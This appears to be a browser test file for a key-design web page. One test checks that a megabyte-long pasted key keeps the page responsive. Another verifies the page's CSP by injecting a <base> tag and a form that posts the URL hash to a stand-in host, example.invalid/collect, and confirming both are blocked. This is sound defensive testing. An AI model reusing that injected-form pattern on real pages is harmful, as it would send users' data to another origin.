// The page at its edges (issue 37): a key of a megabyte, checked off the page's thread; the
// served page's CSP on forms and <base>. Each case asserts what the page does, not how long it took.
import assert from 'node:assert/strict';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { fillKey, launch, openPage, ROOT, serve, waitDone } from './helpers.mjs';

let server, browser;
before(async () => {
  server = await serve();
  browser = await launch();
});
after(async () => {
  await browser?.close();
  server?.close();
});

const b64 = o => Buffer.from(JSON.stringify(o)).toString('base64url');
const CLIPBOARD = { permissions: ['clipboard-read', 'clipboard-write'] };
const TIME_FIRST = {
  v: 1,
  name: 'time first',
  fields: [
    { name: 'id', type: 'string', cardinality: 1000 },
    { name: 'ts', type: 'timestamp' },
  ],
  key: 'long(ts) + id',
  workload: { records: 20000 },
  regions: { presplit: { kind: 'uniform', regions: 8 }, regionServers: 3 },
};
const run = (page, state, timeout = 60000) =>
  page.waitForSelector(`#lab[data-run="${state}"]`, { state: 'attached', timeout });
const text = (page, sel) => page.$eval(sel, e => e.textContent);
/** The page answers: it draws a frame within `ms` (timed here: a frozen page runs no timer). */
const answers = (page, ms = 30000) =>
  Promise.race([
    page.evaluate(() => new Promise(r => requestAnimationFrame(() => r(true)))),
    new Promise(r => setTimeout(() => r(false), ms)),
  ]);
const shotOf = (page, sel, name) => page.locator(sel).screenshot({ path: path.join(ROOT, `test-results/${name}.png`) });

test('a key of a megabyte pasted into the key editor: the page answers, checks it in the worker and says so', async () => {
  const { page, problems } = await openPage(browser, server.url, { width: 1400, height: 900 }, CLIPBOARD);
  await page.goto(`${server.url}#v=1&d=${b64(TIME_FIRST)}`);
  await waitDone(page);
  await page.waitForFunction(() => document.body.dataset.keyEditor === 'ready');
  await page.evaluate(t => navigator.clipboard.writeText(t), `long(${'a'.repeat(1024 * 1024)})`);
  await page.click('#key-cm .cm-content');
  await page.keyboard.press('ControlOrMeta+A');
  // (not awaited first: a key press is answered only once the page has handled it)
  const pasted = page.keyboard.press('ControlOrMeta+V');
  assert.equal(await answers(page), true, 'the page draws a frame after the paste');
  await pasted;
  await page.keyboard.press('End');
  assert.equal(await answers(page), true, 'and after the caret moves');
  await page.waitForFunction(() => document.getElementById('key-text').value.length === 1024 * 1024 + 6);
  assert.match(
    await text(page, '#key-note'),
    /^This key is 1\.0 MiB, longer than the page checks as you type \(64 KiB\): it is checked, and its bytes laid out, in the worker when it runs/,
  );
  // the run's worker names the error; the message quoting the key is cut short
  await run(page, 'error');
  const error = await text(page, '#design-error');
  assert.ok(error.length < 1200, `${error.length} characters`);
  assert.match(error, /^`long\(aaaa/);
  await shotOf(page, '.editor', 'edges-key-megabyte');
  // A long key that compiles: a dict of 8,000 ids (about 100 KiB), laid out by the worker.
  const table = Array.from({ length: 8000 }, (_, i) => `"${i}"=${i + 1}`);
  const dict = `dict(id, [${table.join(', ')}]) + long(ts)`;
  await page.evaluate(t => navigator.clipboard.writeText(t), dict);
  await page.keyboard.press('ControlOrMeta+A');
  await page.keyboard.press('ControlOrMeta+V');
  await page.waitForFunction(d => document.getElementById('key-text').value === d, dict);
  await run(page, 'done');
  await page.waitForFunction(() => document.querySelectorAll('#key-chips .chip').length === 2);
  assert.equal(await page.$eval('#key-chips', e => e.classList.contains('stale')), false);
  assert.deepEqual(await page.$$eval('#key-chips .chip b', bs => bs.map(b => b.textContent)), ['id', 'ts']);
  assert.match(await text(page, '#key-note'), /^This key is 1\d\d KiB/);
  // short again: checked as typed, the note gone
  await fillKey(page, 'long(ts) + id');
  await page.waitForFunction(() => document.getElementById('key-note').hidden);
  assert.deepEqual(problems, []);
  await page.close();
});

test("the served page's CSP: forms post nowhere, and no <base> moves its URLs", async () => {
  const html = await (await fetch(server.url)).text();
  const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1] ?? '';
  const directives = Object.fromEntries(
    csp
      .split(';')
      .map(d => d.trim().split(/\s+/))
      .map(([k, ...v]) => [k, v]),
  );
  assert.deepEqual(directives['form-action'], ["'none'"], csp);
  assert.deepEqual(directives['base-uri'], ["'none'"], csp);
  const { page } = await openPage(browser, server.url);
  await page.goto(server.url);
  await waitDone(page);
  const url = page.url();
  // a form posted to another origin, and a <base> pointing there: both refused by the browser
  const refused = await page.evaluate(
    () =>
      new Promise(resolve => {
        const seen = [];
        document.addEventListener('securitypolicyviolation', e => {
          seen.push(e.effectiveDirective);
          if (seen.length === 2) resolve(seen.sort());
        });
        const base = document.createElement('base');
        base.href = 'http://example.invalid/';
        document.head.append(base);
        const form = document.createElement('form');
        form.method = 'post';
        form.action = 'http://example.invalid/collect';
        form.append(Object.assign(document.createElement('input'), { name: 'd', value: location.hash }));
        document.body.append(form);
        form.submit();
        setTimeout(() => resolve(seen.sort()), 3000);
      }),
  );
  assert.deepEqual(refused, ['base-uri', 'form-action']);
  assert.equal(page.url(), url, 'the page stayed');
  await page.close();
});
